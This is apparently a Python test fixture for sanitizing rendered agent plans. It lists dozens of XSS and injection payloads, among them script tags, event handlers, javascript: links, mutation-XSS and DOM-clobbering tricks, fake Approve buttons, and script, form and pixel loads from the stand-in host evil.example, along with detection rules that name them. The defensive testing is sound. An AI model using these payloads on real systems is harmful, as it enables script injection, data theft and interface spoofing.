"""What a hostile agent would write into a plan, each piece trying to run, to fetch, or to repaint the desk."""

EVIL = "http://evil.example"
RUN = "window.ran=(window.ran||[]).concat"

# Names say which one got through.
PIECES = {
    "script": f"<script>{RUN}('script')</script>",
    "remote script": f"<script src='{EVIL}/x.js'></script>",
    "handler": f"<img src=x onerror=\"{RUN}('handler')\">",
    "other handlers": f"<p onclick=\"{RUN}('click')\" onmouseover=\"{RUN}('over')\" onfocus=\"{RUN}('focus')\" tabindex=0 autofocus>p</p>",
    "details": f"<details open ontoggle=\"{RUN}('details')\"><summary>s</summary>d</details>",
    "svg": f"<svg onload=\"{RUN}('svg')\"><script>{RUN}('svg script')</script><animate onbegin=\"{RUN}('animate')\" attributeName=x dur=1s></svg>",
    "svg use": f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='{EVIL}/use.png'/></svg>#x\"/></svg>",
    "svg link": f"<svg><a xlink:href=\"javascript:{RUN}('svg link')\"><text x=20 y=20>svg link</text></a></svg>",
    "foreign object": f"<svg><foreignObject><iframe srcdoc=\"<script>parent.{RUN}('foreign')</script>\"></iframe></foreignObject></svg>",
    "mathml": f"<math><maction actiontype=statusline xlink:href=\"javascript:{RUN}('math')\">x</maction></math>",
    "frames": f"<iframe src=\"javascript:parent.{RUN}('iframe')\"></iframe><iframe src='{EVIL}/frame'></iframe><iframe srcdoc=\"<script>parent.{RUN}('srcdoc')</script>\"></iframe>",
    "objects": f"<object data='{EVIL}/object'></object><embed src='{EVIL}/embed'><applet code=x></applet>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    "base": f"<base href='{EVIL}/'>",
    "link": f"<link rel=stylesheet href='{EVIL}/style.css'><link rel=prefetch href='{EVIL}/prefetch'>",
    "style": f"<style>@import url({EVIL}/import.css); .bar,.rail {{ display: none !important }} body {{ background: url({EVIL}/bg) }}</style>",
    "style attribute": f'<div style="position:fixed;inset:0;z-index:99999;background:red url({EVIL}/inline)">over everything</div>',
    "desk classes": "<div class='bar open'><button class='button filled'>Approve</button></div><dialog open class=palette>d</dialog>",
    "clobbering": "<a id=desk></a><img name=getElementById><form id=p1><input name=attributes></form><p id=p1-scroll>x</p><b id=hits></b>",
    "form": f"<form action='{EVIL}/form' method=post><input name=q value=1><button autofocus>Approve</button><input type=image src='{EVIL}/image-input'></form>",
    "media": f"<video src='{EVIL}/video' poster='{EVIL}/poster' autoplay></video><audio src='{EVIL}/audio' autoplay></audio><picture><source srcset='{EVIL}/srcset'><img src=x></picture>",
    "remote image": f"![pixel]({EVIL}/pixel.png) <img src='{EVIL}/img.png' srcset='{EVIL}/set.png 2x' loading=eager>",
    "table background": f"<table background='{EVIL}/table'><tr><td background='{EVIL}/td'>x</td></tr></table>",
    "links": f"[one](javascript:{RUN}('link')) [two](JaVaScRiPt:{RUN}('case')) [three](&#106;avascript:{RUN}('entity')) "
    f"[four](<java\tscript:{RUN}('tab')>) [five](vbscript:x) [six](data:text/html,<script>opener.{RUN}('data')</script>)",
    "raw link": f"<a href=\"javascript:{RUN}('raw')\" target=_self download ping='{EVIL}/ping'>raw link</a>",
    "autolink": f"<javascript:{RUN}('autolink')>",
    "mutation noscript": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}('noscript')>\">",
    "mutation style": f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}('svg style')>\">",
    "mutation math": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}('mglyph')&gt;\">",
    "mutation form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}('form')>",
    "mutation title": f"<title><a alt=\"</title><img src=x onerror={RUN}('title')>\">",
    "mutation select": f"<select><template><style><!--</template><a rel=\"--></style></select><img src=x onerror={RUN}('select')>\">",
    "broken": f"<img src=\"x` `<script>{RUN}('broken')</script>\"` `> <<script>{RUN}('double')//<</script> <img/src=x/onerror={RUN}('slash')>",
    "comment": f"<!--><img src=x onerror={RUN}('comment')>--> <![CDATA[<img src=x onerror={RUN}('cdata')>]]> <?php <img src=x onerror={RUN}('pi')> ?>",
    "code": f"```html\" onmouseover=\"{RUN}('fence')\n</code></pre><script>{RUN}('code')</script>\n```",
    "heading": f"## <a name=x onfocus={RUN}('heading')>h</a> {{#desk onclick={RUN}('id')}}",
    "footnote": f"[^<img src=x onerror={RUN}('footnote')>]\n\n[^<img src=x onerror={RUN}('footnote')>]: n",
}
TITLE = "Harmless title"
ALL = f"# {TITLE}\n\n" + "\n\n".join(PIECES.values()) + "\n\nThe last line.\n"

FORBIDDEN_ELEMENTS = (
    "script, style, link, meta, base, iframe, object, embed, form, svg, math, video, audio, source, dialog, "
    "button, select, textarea, template, noscript, input:not([type=checkbox][disabled])"
)
# Attributes that run, style, fetch or send; what the hub writes itself begins with data- or doc-.
BAD_ATTRIBUTES = """article => [...article.querySelectorAll('*')].flatMap(one => [...one.attributes]
  .filter(({name, value}) => /^on/i.test(name) || ['style', 'srcset', 'background', 'ping', 'formaction', 'action', 'autofocus'].includes(name)
    || (['href', 'src', 'xlink:href'].includes(name) && /^\\s*(javascript|data|vbscript|blob):/i.test(value))
    || (name === 'src' && /^(https?:)?\\/\\//i.test(value)))
  .map(({name, value}) => `${one.tagName} ${name}=${value}`))"""
IDS_OUTSIDE = """article => {
  const inside = [...article.querySelectorAll('[id]')].map(one => one.id);
  const outside = new Set([...document.querySelectorAll('[id]')].filter(one => !article.contains(one)).map(one => one.id));
  return inside.filter(id => outside.has(id) || id in window.document && !id.includes('-'));
}"""
